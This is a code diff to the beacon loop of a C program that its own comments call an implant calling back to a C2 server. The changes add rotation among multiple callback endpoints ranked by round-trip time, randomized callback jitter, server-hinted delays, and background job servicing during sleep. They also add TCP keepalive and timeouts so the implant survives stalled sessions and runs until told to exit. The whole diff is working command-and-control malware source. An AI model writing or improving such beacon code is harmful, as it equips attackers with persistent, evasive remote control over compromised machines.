@@ -1,7 +1,9 @@
 #define _POSIX_C_SOURCE 200809L // NOLINT
 
 #include <assert.h>
+#include <errno.h>
 #include <netinet/in.h>
+#include <netinet/tcp.h>
 #include <signal.h>
 #include <stddef.h>
 #include <stdint.h>
@@ -10,12 +12,16 @@
 #include <string.h>
 #include <sys/random.h>
 #include <sys/socket.h>
+#include <sys/time.h>
 #include <sys/types.h>
 #include <time.h>
 #include <unistd.h>
 
+#include "ember.h"
 #include "errors.h"
+#include "job.h"
 #include "settings.h"
+#include "sockopt.h"
 #include "task.h"
 #include "utils.h"
 
@@ -31,6 +37,9 @@ enum
     MSEC_TO_NSEC = 1000000,
     NSEC_PER_SEC = 1000000000,
     CHECKIN_BUF_SIZ = 255,
+    KEEPALIVE_IDLE = 30,     /**< Seconds of a quiet session before the first keepalive probe */
+    KEEPALIVE_INTERVAL = 10, /**< Seconds between unanswered probes */
+    KEEPALIVE_COUNT = 3,     /**< Unanswered probes that end the session */
 };
 
 typedef struct
@@ -59,7 +68,7 @@ int ember_run(settings_t *p_settings)
         }
     }
 
-    return ret;
+    return (-EMBER_EXIT == ret) ? EMBER_SUCCESS : ret;
 }
 
 static void subtract_timespec(struct timespec *p_dest, struct timespec time_1, struct timespec time_2)
@@ -88,40 +97,87 @@ static void add_timespec(struct timespec *p_dest, struct timespec time_1, struct
     }
 }
 
-static int sleep_until_next_callback(settings_t *p_settings)
+static void service_jobs_until(struct timespec wake_time)
 {
-    assert(NULL != p_settings);
-
-    int ret = EMBER_SUCCESS;
+    struct timespec now = {0};
+    struct timespec remaining = {0};
+    (void)clock_gettime(CLOCK_MONOTONIC, &now);
+    subtract_timespec(&remaining, wake_time, now);
 
-    add_timespec(&p_settings->next_callback, p_settings->next_callback, p_settings->interval);
+    // Background jobs are serviced through the sleep, or the part of it until the last one exits
+    if ((0 < job_running_count()) && (0 <= remaining.tv_sec))
+    {
+        (void)job_wait(-1, (int)((remaining.tv_sec * MSEC_PER_SEC) + (remaining.tv_nsec / MSEC_TO_NSEC)));
+    }
+}
 
+static void schedule_next_callback(settings_t *p_settings, uint32_t delay_ms)
+{
     struct timespec now = {0};
     (void)clock_gettime(CLOCK_MONOTONIC, &now);
+
+    // A hinted callback is counted from the end of the session, the interval's from the callback before
+    if (0 != delay_ms)
+    {
+        struct timespec delay = {delay_ms / MSEC_PER_SEC, (long)(delay_ms % MSEC_PER_SEC) * MSEC_TO_NSEC};
+        add_timespec(&p_settings->next_callback, now, delay);
+        return;
+    }
+
+    add_timespec(&p_settings->next_callback, p_settings->next_callback, p_settings->interval);
     while ((p_settings->next_callback.tv_sec < now.tv_sec) ||
            ((p_settings->next_callback.tv_sec == now.tv_sec) && (p_settings->next_callback.tv_nsec < now.tv_nsec)))
     {
         add_timespec(&p_settings->next_callback, p_settings->next_callback, p_settings->interval);
     }
+}
 
-    int64_t random_num = 0;
+/**
+ * @brief A random offset in [-window_ms, window_ms], as a timespec with a non-negative tv_nsec.
+ */
+static struct timespec random_jitter(int64_t window_ms)
+{
+    uint64_t random_num = 0;
     // TODO: Replace with more portable randombytes()
-    (void)getrandom(&random_num, sizeof(int64_t), 0);
-    int64_t jitter_msec = (random_num % ((p_settings->window.tv_sec * 2 * MSEC_PER_SEC) + 1)) -
-                          (p_settings->window.tv_sec * MSEC_PER_SEC);
+    (void)getrandom(&random_num, sizeof(uint64_t), 0);
+    int64_t jitter_msec = (int64_t)(random_num % (uint64_t)((window_ms * 2) + 1)) - window_ms;
     struct timespec jitter_ts = {jitter_msec / MSEC_PER_SEC, (jitter_msec % MSEC_PER_SEC) * MSEC_TO_NSEC};
-    if (0 > jitter_msec)
+    if (0 > jitter_ts.tv_nsec)
     {
         jitter_ts.tv_sec -= 1;
         jitter_ts.tv_nsec = (NSEC_PER_SEC + jitter_ts.tv_nsec);
     }
 
-    struct timespec sleep_time = {0};
-    add_timespec(&sleep_time, p_settings->next_callback, jitter_ts);
+    return jitter_ts;
+}
 
-    if (-1 == nanosleep(&sleep_time, NULL))
+static int sleep_until_next_callback(settings_t *p_settings)
+{
+    assert(NULL != p_settings);
+
+    int ret = EMBER_SUCCESS;
+
+    uint32_t delay_ms = settings_poll_delay(&p_settings->poll, p_settings->interval);
+    schedule_next_callback(p_settings, delay_ms);
+
+    // The jitter of a hinted callback stays within half its delay, the window is sized for the interval
+    int64_t window_ms = (int64_t)p_settings->window.tv_sec * MSEC_PER_SEC;
+    if (0 != delay_ms)
     {
-        DEBUG_PERROR("nanosleep");
+        window_ms = MIN(window_ms, (int64_t)(delay_ms / 2));
+    }
+
+    struct timespec wake_time = {0};
+    add_timespec(&wake_time, p_settings->next_callback, random_jitter(window_ms));
+
+    service_jobs_until(wake_time);
+
+    // next_callback is an absolute CLOCK_MONOTONIC time, not a duration
+    int sleep_err = clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &wake_time, NULL);
+    if (0 != sleep_err)
+    {
+        errno = sleep_err;
+        DEBUG_PERROR("clock_nanosleep");
         ret = -EMBER_ERROR;
     }
 
@@ -148,6 +204,26 @@ static int send_checkin(int sock, uint32_t guid[4])
     return ret;
 }
 
+static void set_session_timeouts(int sock)
+{
+    // A C2 that stalls within a task drops the session instead of holding the implant in recv() or send(). Between
+    // tasks it may stay quiet for as long as it likes, keepalive probes find one that is gone.
+    struct timeval timeout = {.tv_sec = RECV_TIMEOUT, .tv_usec = 0};
+    int enable = 1;
+    int idle = KEEPALIVE_IDLE;
+    int interval = KEEPALIVE_INTERVAL;
+    int count = KEEPALIVE_COUNT;
+    if ((-1 == setsockopt(sock, SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof(struct timeval))) ||
+        (-1 == setsockopt(sock, SOL_SOCKET, SO_SNDTIMEO, &timeout, sizeof(struct timeval))) ||
+        (-1 == setsockopt(sock, SOL_SOCKET, SO_KEEPALIVE, &enable, sizeof(int))) ||
+        (-1 == setsockopt(sock, IPPROTO_TCP, TCP_KEEPIDLE, &idle, sizeof(int))) ||
+        (-1 == setsockopt(sock, IPPROTO_TCP, TCP_KEEPINTVL, &interval, sizeof(int))) ||
+        (-1 == setsockopt(sock, IPPROTO_TCP, TCP_KEEPCNT, &count, sizeof(int))))
+    {
+        DEBUG_PERROR("setsockopt");
+    }
+}
+
 static int handle_connection(int sock, settings_t *p_settings)
 {
     assert(NULL != p_settings);
@@ -173,27 +249,31 @@ static int do_beacon(settings_t *p_settings)
 
     int ret = EMBER_SUCCESS;
 
-    int sock = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    uint8_t endpoint_index = 0;
+    int sock = endpoint_connect(&p_settings->callbacks, &endpoint_index);
     if (-1 == sock)
     {
-        DEBUG_PERROR("socket");
+        DEBUG_MSG("No callback endpoint connected");
         ret = -EMBER_ERROR;
     }
 
     if (EMBER_SUCCESS == ret)
     {
-        if (-1 == connect(sock, (struct sockaddr *)&p_settings->callback_location, sizeof(struct sockaddr_in)))
+        sockopt_after_connect(sock);
+        set_session_timeouts(sock);
+
+        uint32_t generation = p_settings->callbacks.generation;
+        // Only EXIT ends the implant. A session that failed, to a C2 that stalled within a task among others, is
+        // dropped and the implant calls back as scheduled.
+        ret = (-EMBER_EXIT == handle_connection(sock, p_settings)) ? -EMBER_EXIT : EMBER_SUCCESS;
+
+        // Unless the session replaced the endpoints, its RTT ranks the endpoint it used
+        if (generation == p_settings->callbacks.generation)
         {
-            DEBUG_PERROR("connect");
-            ret = -EMBER_ERROR;
+            endpoint_record_rtt(&p_settings->callbacks, endpoint_index, sock);
         }
     }
 
-    if (EMBER_SUCCESS == ret)
-    {
-        ret = handle_connection(sock, p_settings);
-    }
-
     if (-1 != sock)
     {
         close(sock);